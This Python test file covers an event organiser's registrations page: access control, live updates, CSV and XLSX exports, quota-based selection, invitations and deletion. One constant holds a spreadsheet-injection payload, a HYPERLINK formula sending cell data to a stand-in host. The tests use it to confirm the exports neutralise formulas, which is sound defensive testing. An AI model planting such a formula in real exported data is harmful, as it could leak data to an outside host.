"""The organiser's registrations page over HTTP: the list and counts for the event's
organisers only, the live fragment, the exports, the selection form (its result and its
refusals) and the invitations, with and without mail."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from live import mail
from rooms import accounts
from tests.conftest import (
    CONSOLE,
    ORGANISER_EMAIL,
    ORGANISER_PASSWORD,
    Api,
    Mailbox,
    Served,
    axe_violations,
)
from tests.live.pages import csrf_of

SEKTOR = {"key": "sektor", "label": "Sektor", "choices": ["Civilsamhälle", "Offentlig sektor"]}
NIVA = {"key": "niva", "label": "Nivå", "choices": ["Lokal", "Regional", "Nationell"]}
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'
OTHER_EMAIL = "kim@natverket.example"
OTHER_PASSWORD = "another long password"


async def make_event(api: Api, people: int = 0, **fields: Any) -> dict[str, Any]:
    body = {
        "title": "Samverkansforum 2026",
        "attributes": [SEKTOR, NIVA],
        "registration": {"open": True},
        **fields,
    }
    r = await api.call("POST", "/api/v1/events", await api.organiser_token(), json=body)
    assert r.status_code == 201, r.text
    event: dict[str, Any] = r.json()
    for n in range(people):
        sektor = SEKTOR["choices"][0 if n % 4 else 1]  # three in four from civil society
        niva = NIVA["choices"][n % 3]
        await register(api, event, f"Person {n}", f"person{n}@example.org", sektor, niva)
    return event


async def register(
    api: Api, event: dict[str, Any], name: str, email: str, sektor: str, niva: str
) -> None:
    r = await api.call(
        "POST",
        f"/api/v1/events/{event['id']}/registrations",
        json={
            "name": name,
            "email": email,
            "attributes": {"sektor": sektor, "niva": niva},
            "consent": True,
        },
    )
    assert r.status_code == 201, r.text


@asynccontextmanager
async def sign_in(
    served: Served, email: str = ORGANISER_EMAIL, password: str = ORGANISER_PASSWORD
) -> AsyncIterator[httpx.AsyncClient]:
    """A browser signed in as that organiser (the account must exist)."""
    async with httpx.AsyncClient(base_url=served.base, timeout=30) as client:
        login = await client.get("/login")
        r = await client.post(
            "/login", data={"csrf": csrf_of(login.text), "email": email, "password": password}
        )
        assert r.status_code == 303, r.text
        yield client


async def add_other_organiser(served: Served) -> None:
    async def add() -> None:
        async with served.samla.store.write() as db:
            await accounts.add_organiser(db, OTHER_EMAIL, OTHER_PASSWORD)

    await served.run(add)


def page_of(event: dict[str, Any]) -> str:
    return f"/organiser/events/{event['id']}/registrations"


async def post(client: httpx.AsyncClient, path: str, **fields: Any) -> httpx.Response:
    page = await client.get(path)
    return await client.post(path, data={"csrf": csrf_of(page.text), **fields})


def cells(html: str, table_class: str, nth: int = 0) -> list[list[str]]:
    """The text of each row of the nth table with that class (tags dropped)."""
    found = re.findall(rf'<table class="[^"]*{table_class}[^"]*">(.*?)</table>', html, re.S)
    assert len(found) > nth, f"no table .{table_class} number {nth}"
    rows = re.findall(r"<tr[^>]*>(.*?)</tr>", found[nth], re.S)
    return [
        [
            re.sub(r"<[^>]+>|\s+", " ", c).strip()
            for c in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)
        ]
        for row in rows
    ]


async def test_the_events_organiser_sees_the_list_and_the_counts_per_choice(api: Api) -> None:
    event = await make_event(api, people=8)
    await register(api, event, "Åsa <b>Öberg</b>", "asa@example.org", "Offentlig sektor", "Lokal")
    async with sign_in(api.served) as client:
        r = await client.get(page_of(event))
    assert r.status_code == 200, r.text
    html = r.text
    assert "Samverkansforum 2026" in html
    assert "Åsa &lt;b&gt;Öberg&lt;/b&gt;" in html and "<b>Öberg" not in html
    assert "person7@example.org" in html
    # Six of the nine from civil society, three from the public sector.
    sektor = cells(html, "reg-count")
    assert sektor[1:] == [["Civilsamhälle", "6"], ["Offentlig sektor", "3"]]
    assert 'href="/organiser"' in html  # back to the organiser page
    assert f'{page_of(event)}/export?format=csv"' in html
    assert f'{page_of(event)}/export?format=xlsx"' in html


async def test_the_list_refreshes_live_and_says_nothing_while_nothing_changed(api: Api) -> None:
    event = await make_event(api, people=2)
    async with sign_in(api.served) as client:
        html = (await client.get(page_of(event))).text
        assert 'hx-trigger="every 5s"' in html and 'hx-swap="morph"' in html
        version = re.search(r'id="reg-version" name="v" value="([0-9a-f]+)"', html)
        assert version
        live = f"{page_of(event)}/live"
        same = await client.get(live, params={"v": version.group(1)})
        assert same.status_code == 204 and same.content == b""
        await register(api, event, "Ny Person", "ny@example.org", "Civilsamhälle", "Regional")
        fresh = await client.get(live, params={"v": version.group(1)})
    assert fresh.status_code == 200
    assert fresh.text.lstrip().startswith('<div id="reg-live"')
    assert "ny@example.org" in fresh.text
    assert "<html" not in fresh.text


async def test_another_organiser_is_refused_and_a_stranger_is_sent_to_sign_in(api: Api) -> None:
    event = await make_event(api, people=1)
    await add_other_organiser(api.served)
    async with sign_in(api.served, OTHER_EMAIL, OTHER_PASSWORD) as other:
        assert (await other.get(page_of(event))).status_code == 403
        assert (await other.get(f"{page_of(event)}/live")).status_code == 403
        assert (await other.get(f"{page_of(event)}/export?format=csv")).status_code == 403
    r = await api.client.get(page_of(event))
    assert r.status_code == 303 and r.headers["location"].startswith("/login?next=")
    assert (await api.client.get(f"{page_of(event)}/export")).status_code == 303


async def test_a_co_organiser_sees_the_page(api: Api) -> None:
    event = await make_event(api, people=1)
    await add_other_organiser(api.served)
    r = await api.call(
        "POST",
        f"/api/v1/events/{event['id']}/organisers",
        await api.organiser_token(),
        json={"email": OTHER_EMAIL},
    )
    assert r.status_code == 201, r.text
    async with sign_in(api.served, OTHER_EMAIL, OTHER_PASSWORD) as other:
        assert (await other.get(page_of(event))).status_code == 200


async def test_the_csv_export_is_formula_safe_and_swedish_is_semicolon_separated(
    api: Api,
) -> None:
    event = await make_event(api, people=2)
    await register(api, event, HOSTILE, "evil@example.org", "Civilsamhälle", "Lokal")
    async with sign_in(api.served) as client:
        sv = await client.get(
            f"{page_of(event)}/export?format=csv", headers={"Accept-Language": "sv-SE"}
        )
        en = await client.get(
            f"{page_of(event)}/export?format=csv", headers={"Accept-Language": "en-GB"}
        )
    assert sv.status_code == 200 and sv.headers["content-type"].startswith("text/csv")
    disposition = sv.headers["content-disposition"]
    assert re.fullmatch(
        r'attachment; filename="samla-registrations-samverkansforum-2026-\d{4}-\d\d-\d\d\.csv"',
        disposition,
    )
    assert sv.headers["cache-control"] == "private, no-store"
    assert sv.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(sv.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][2:4] == ["Sektor", "Nivå"] and len(rows) == 4
    assert ["'" + HOSTILE, "evil@example.org"] in [r[:2] for r in rows]
    english = list(csv.reader(io.StringIO(en.content.decode("utf-8-sig"))))
    assert english[0][:2] == ["Name", "Email"]
    assert ["'" + HOSTILE, "evil@example.org"] in [r[:2] for r in english]


async def test_the_xlsx_export_keeps_a_formula_as_text(api: Api) -> None:
    event = await make_event(api, people=1)
    await register(api, event, HOSTILE, "evil@example.org", "Civilsamhälle", "Lokal")
    async with sign_in(api.served) as client:
        r = await client.get(
            f"{page_of(event)}/export?format=xlsx", headers={"Accept-Language": "en-GB"}
        )
        wrong = await client.get(f"{page_of(event)}/export?format=pdf")
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert r.headers["content-disposition"].endswith('.xlsx"')
    book = load_workbook(io.BytesIO(r.content))
    sheet = book["Registrations"]
    names = {row[0].value: row[0] for row in sheet.iter_rows(min_row=2)}
    assert names[HOSTILE].data_type == "s" and names[HOSTILE].quotePrefix
    assert wrong.status_code == 422


async def test_the_selection_runs_and_shows_each_choice_against_its_target(api: Api) -> None:
    event = await make_event(api, people=12)
    async with sign_in(api.served) as client:
        r = await post(
            client, page_of(event), op="select", size="6", balance=["sektor", "niva"], seed="7"
        )
        again = await post(
            client, page_of(event), op="select", size="6", balance=["sektor", "niva"], seed="7"
        )
    assert r.status_code == 200, r.text
    html = r.text
    assert 'id="selection-result"' in html
    assert "Seed 7" in html
    # 9 of 12 from civil society, 3 from the public sector; 6 places, 3 each.
    table = cells(html, "reg-target")
    assert table[0] == ["Choice", "Registered", "Target", "Selected"]
    assert table[1] == ["Civilsamhälle", "9", "3", "3"]
    assert table[2] == ["Offentlig sektor", "3", "3", "3"]
    assert cells(html, "reg-target", 1)[1:] == [
        ["Lokal", "4", "2", "2"],
        ["Regional", "4", "2", "2"],
        ["Nationell", "4", "2", "2"],
    ]
    assert 'class="missed"' not in html
    waitlist = re.search(r'<details class="reg-waitlist".*?</details>', html, re.S)
    assert waitlist and waitlist.group(0).count("<li>") == 6
    # The same seed draws the same panel; the live list shows who is selected.
    assert waitlist.group(0) in again.text
    assert html.count('class="reg-status reg-selected"') == 6
    assert 'value="7"' in html  # the seed stays in its field, to draw again


async def test_a_share_too_few_applied_for_is_marked_with_its_reason(api: Api) -> None:
    event = await make_event(api, people=12)
    async with sign_in(api.served) as client:
        r = await post(client, page_of(event), op="select", size="10", balance=["sektor"])
    assert r.status_code == 200, r.text
    table = cells(r.text, "reg-target")
    # An even share would be 5 each; only 3 applied from the public sector.
    assert table[1] == ["Civilsamhälle", "9", "7", "7"]
    assert table[2][:3] == ["Offentlig sektor", "3", "3"]
    assert 'class="missed"' in r.text
    assert "Only 3 registered with Offentlig sektor" in r.text


async def test_impossible_quotas_are_refused_next_to_the_form_keeping_what_was_typed(
    api: Api,
) -> None:
    event = await make_event(api, people=12)
    async with sign_in(api.served) as client:
        r = await post(
            client,
            page_of(event),
            op="select",
            size="6",
            balance=["niva"],
            seed="42",
            **{"quota-0-1-min": "5"},  # five from the public sector: three applied
        )
        word = await post(client, page_of(event), op="select", size="sex", balance=["niva"])
        none = await post(client, page_of(event), op="select", size="6")
    assert r.status_code == 422, r.text
    error = re.search(
        r'<p class="error reg-error" role="alert" id="select-error">(.*?)</p>', r.text
    )
    assert error and "sektor=Offentlig sektor (min 5) cannot be met" in error.group(1)
    assert re.search(r'name="quota-0-1-min"[^>]*value="5"', r.text)
    assert re.search(r'name="seed"[^>]*value="42"', r.text)
    assert re.search(r'name="size"[^>]*value="6"', r.text)
    assert re.search(r'value="niva" checked', r.text) and not re.search(
        r'value="sektor" checked', r.text
    )
    assert '<details class="reg-quotas" open>' in r.text
    assert 'id="selection-result"' not in r.text
    assert word.status_code == 422 and "The size must be a whole number" in word.text
    assert re.search(r'id="size"[^>]*aria-invalid="true"', word.text)
    assert none.status_code == 422 and "Choose at least one question" in none.text
    # Nothing was selected.
    assert 'class="reg-status reg-selected"' not in r.text


async def test_invitations_without_mail_list_each_personal_link(api: Api) -> None:
    event = await make_event(api, people=6)
    async with sign_in(api.served) as client:
        before = await client.get(page_of(event))
        assert "Run a selection first" in before.text
        await post(client, page_of(event), op="select", size="3", balance=["sektor"], seed="1")
        r = await post(client, page_of(event), op="invite")
    assert r.status_code == 200, r.text
    assert "Create invitations" in r.text and "Send by mail" not in r.text
    links = re.findall(r'readonly value="(http://[^"]+/i/i_[\w-]+)"', r.text)
    assert len(links) == 3 and len(set(links)) == 3
    assert "Personal links to send" in r.text
    assert r.text.count('data-copy="invite-') == 3


async def test_with_mail_the_invitations_are_sent_and_still_listed(
    served_factory: Callable[..., Served], mailbox: tuple[Mailbox, int]
) -> None:
    handler, port = mailbox
    served = served_factory(smtp_url=f"smtp://127.0.0.1:{port}")
    async with httpx.AsyncClient(base_url=served.base, timeout=30) as raw:
        api = Api(served, raw)
        event = await make_event(api, people=4)
        async with sign_in(served) as client:
            page = await client.get(page_of(event))
            assert "Create invitations and send by mail" not in page.text  # none selected yet
            await post(client, page_of(event), op="select", size="2", balance=["sektor"])
            page = await client.get(page_of(event))
            assert "Create invitations and send by mail" in page.text
            r = await post(client, page_of(event), op="invite")
    assert r.status_code == 200, r.text
    assert "Sent to 2 people" in r.text
    assert len(re.findall(r'readonly value="http://[^"]+/i/i_', r.text)) == 2
    await served.run(mail.drain)
    invited = [to for to, text in handler.sent() if "/i/i_" in text]
    assert len(invited) == 2


async def test_a_registration_is_deleted_after_its_confirmation(api: Api) -> None:
    event = await make_event(api, people=2)
    async with sign_in(api.served) as client:
        html = (await client.get(page_of(event))).text
        rid = re.search(r'name="registration_id" value="([\w-]+)"', html)
        assert rid
        # Without JavaScript the row's button brings the page back with the question open.
        asked = await post(client, page_of(event), op="confirm-delete", registration_id=rid[1])
        assert (
            '<dialog id="reg-delete" class="reg-dialog" aria-labelledby="reg-delete-text" open>'
            in asked.text
        )
        assert "Delete the registration of Person" in asked.text
        done = await post(client, page_of(event), op="delete", registration_id=rid[1])
        assert done.status_code == 303
        after = await client.get(done.headers["location"])
        other = await make_event(api, people=1, title="Ett annat evenemang")
        elsewhere = (await client.get(page_of(other))).text
        oid = re.search(r'name="registration_id" value="([\w-]+)"', elsewhere)
        assert oid
        refused = await post(client, page_of(event), op="delete", registration_id=oid[1])
    assert "The registration was deleted." in after.text
    assert after.text.count('name="registration_id" value="') == 1  # one row left
    assert rid[1] not in after.text.split('<dialog id="reg-delete"')[0]
    assert refused.status_code == 403


# -- in a real browser ---------------------------------------------------------------------------

SHOTS = Path("/tmp/shots")


@pytest.mark.parametrize("lang", ["sv", "en"])
async def test_the_page_in_chromium_selects_lives_invites_and_passes_axe(
    api: Api, browser: Any, lang: str
) -> None:
    """At the console's size: the list and counts, a refused selection keeping what was
    typed, a selection's result, a new registration arriving by itself without touching the
    form, the delete dialog, and the personal links. axe-core finds nothing."""
    SHOTS.mkdir(exist_ok=True)
    event = await make_event(api, people=23, title="Samverkansforum 2026: nationell dialog")
    await register(api, event, "Åsa Öberg", "asa.oberg@kommun.example", "Offentlig sektor", "Lokal")
    await api.organiser_token()
    page = await browser.new_page(viewport=CONSOLE, locale="sv-SE" if lang == "sv" else "en-GB")
    problems: list[str] = []
    page.on("pageerror", lambda e: problems.append(str(e)))
    page.on(
        "console",
        lambda m: (
            problems.append(m.text) if m.type == "error" and "status of 422" not in m.text else None
        ),
    )
    base = api.served.base
    await page.goto(f"{base}/login?next={page_of(event)}")
    await page.locator("#email").fill(ORGANISER_EMAIL)
    await page.locator("#password").fill(ORGANISER_PASSWORD)
    await page.locator("form[action^='/login'] button[type=submit]").click()
    await page.wait_for_url(f"{base}{page_of(event)}")
    assert await page.locator("html").get_attribute("lang") == lang
    assert await page.locator(".reg-list tbody tr").count() == 24
    assert await axe_violations(page) == []
    await page.screenshot(path=str(SHOTS / f"registrations-{lang}.png"))

    # Impossible quotas: refused beside the form, nothing typed lost.
    await page.locator("#size").fill("8")
    await page.locator(".reg-quotas summary").click()
    await page.locator("#quota-0-1-min").fill("8")  # only 7 applied from the public sector
    await page.locator("#seed").fill("11")
    await page.locator("#select-form button[type=submit]").click()
    await page.locator("#select-error").wait_for()
    assert await page.locator("#quota-0-1-min").input_value() == "8"
    assert await page.locator("#size").input_value() == "8"
    assert await axe_violations(page) == []
    await page.screenshot(path=str(SHOTS / f"registrations-refused-{lang}.png"))

    # A selection: counts against targets, the seed, the waiting list. An even share of
    # 16 is 8 each, and only 7 applied from the public sector: that row says why.
    await page.locator("#quota-0-1-min").fill("")
    await page.locator("#size").fill("16")
    await page.locator("#select-form button[type=submit]").click()
    await page.locator("#selection-result").wait_for()
    assert await page.locator(".reg-target").count() == 2
    assert await page.locator(".reg-target tr.missed").count() == 1
    assert await page.locator(".reg-target tr.missed-why").count() == 1
    assert await page.locator(".reg-waitlist li").count() == 8
    assert await page.locator("#seed").input_value() == "11"
    assert await axe_violations(page) == []
    await page.screenshot(path=str(SHOTS / f"registrations-selected-{lang}.png"), full_page=True)

    # Someone registers meanwhile: the list grows by itself, and the form keeps its text.
    await page.locator("#size").fill("9")
    await page.locator("#size").focus()
    shown = await page.locator("#reg-version").input_value()
    await register(api, event, "Bo Nyman", "bo@region.example", "Civilsamhälle", "Regional")
    await page.locator(".reg-list th", has_text="Bo Nyman").wait_for(timeout=12_000)
    # The next poll asks with the new version (and is answered 204 until something changes).
    assert await page.locator("#reg-version").input_value() != shown
    assert await page.locator("#size").input_value() == "9"
    assert await page.evaluate("document.activeElement.id") == "size"

    # Delete asks first, naming whom.
    row = page.locator(".reg-list tr", has_text="Bo Nyman")
    await row.locator("button.reg-delete").click()
    dialog = page.locator("#reg-delete")
    await dialog.wait_for()
    assert "Bo Nyman" in await page.locator("#reg-delete-text").inner_text()
    assert await axe_violations(page) == []
    await page.screenshot(path=str(SHOTS / f"registrations-delete-{lang}.png"))
    await dialog.locator("button.danger").click()
    await page.locator(".reg-done").wait_for()
    assert await page.locator(".reg-list th", has_text="Bo Nyman").count() == 0

    # The personal links, without mail.
    await page.locator(".reg-invite button[type=submit]").click()
    await page.locator("#invited").wait_for()
    assert await page.locator(".reg-links tbody tr").count() == 16
    assert await axe_violations(page) == []
    await page.screenshot(path=str(SHOTS / f"registrations-invited-{lang}.png"), full_page=True)
    assert problems == []
